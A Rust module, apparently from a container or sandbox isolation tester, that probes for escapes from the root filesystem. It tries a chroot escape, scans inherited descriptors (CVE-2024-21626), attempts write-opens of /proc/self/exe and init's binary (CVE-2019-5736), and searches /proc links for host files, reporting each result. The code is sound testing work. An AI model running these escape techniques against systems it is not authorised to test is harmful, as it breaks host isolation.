//! Ways out of the root filesystem.

use std::fs::{self, File};
use std::io;
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};

use nix::unistd::{chroot, fchdir};

use crate::Attack;
use crate::report::{count, saw, tried};
use crate::sys::{child_answer, errno_of};

pub(crate) const ATTACKS: &[Attack] = &[
    ("chroot-escape", chroot_escape),
    ("fd-sweep", fd_sweep),
    ("self-exe", self_exe),
    ("canary", canary),
];

/// The classic: keep a descriptor of the old root, `chroot` below it, climb up from the descriptor. It leaves a
/// root that was made with `chroot`, and comes out at `/` of this mount namespace: does that have a host's file?
fn chroot_escape(names: &[String]) {
    let below = Path::new("/below");
    let escaped = child_answer(|| {
        let outside = File::open("/").map_err(|error| errno_of(&error))?;
        match fs::create_dir(below) {
            Err(error) if error.kind() != io::ErrorKind::AlreadyExists => return Err(errno_of(&error)),
            _ => {}
        }
        chroot(below)?;
        fchdir(&outside)?;
        for _ in 0..64 {
            nix::unistd::chdir("..")?;
        }
        chroot(".")?;
        let seen = names.iter().filter(|name| Path::new(name).exists());
        Ok(count(seen.count()))
    });
    tried("host files after chroot", escaped);
}

/// Descriptors beyond the terminal's three, and what lies above each (CVE-2024-21626).
fn fd_sweep(names: &[String]) {
    let listed: Vec<PathBuf> = fs::read_dir("/proc/self/fd")
        .into_iter()
        .flatten()
        .flatten()
        .map(|entry| entry.path())
        .collect();
    let mut inherited = 0;
    for path in listed {
        let number: i32 = path
            .file_name()
            .and_then(|name| name.to_str()?.parse().ok())
            .unwrap_or_default();
        let Ok(target) = fs::read_link(&path) else {
            continue;
        };
        // The directory that is being read.
        if number > 2 && !target.starts_with("/proc/") {
            inherited += 1;
            saw(format_args!("descriptor {number}"), target.display());
        }
        for up in ["..", "../..", "../../../.."] {
            for name in names {
                let seen = path.join(up).join(name.trim_start_matches('/'));
                if seen.exists() {
                    saw("host file by a descriptor", seen.display());
                }
            }
        }
    }
    saw("inherited descriptors", inherited);
}

/// Overwrites the program that runs, and init's, through `/proc` (CVE-2019-5736).
fn self_exe(_: &[String]) {
    for path in ["/proc/self/exe", "/proc/1/exe"] {
        let opened = File::options().write(true).open(path);
        tried(
            format_args!("open {path} for writing"),
            opened
                .map(|file| file.as_raw_fd().into())
                .map_err(|error| errno_of(&error)),
        );
    }
    // While it runs it is busy; once it has ended, the descriptor that was kept by O_PATH would be reopened.
    let kept = File::open("/proc/1/exe").map_err(|error| errno_of(&error));
    let Ok(kept) = kept else { return };
    let again = format!("/proc/self/fd/{}", kept.as_raw_fd());
    let opened = File::options().write(true).open(again);
    tried(
        "reopen init's program for writing",
        opened.map(|_| 0).map_err(|error| errno_of(&error)),
    );
}

/// Looks for the host's files by every name that a process in view leads to.
fn canary(names: &[String]) {
    let mut found = 0;
    let processes: Vec<PathBuf> = fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .map(|entry| entry.path())
        .filter(|path| {
            path.file_name()
                .is_some_and(|name| name.as_encoded_bytes()[0].is_ascii_digit())
        })
        .collect();
    for process in &processes {
        for link in ["root", "cwd", "root/..", "cwd/../../../../.."] {
            for name in names {
                let path = process.join(link).join(name.trim_start_matches('/'));
                if path.exists() {
                    found += 1;
                    saw("host file", path.display());
                }
            }
        }
    }
    saw("host files in view", found);
}
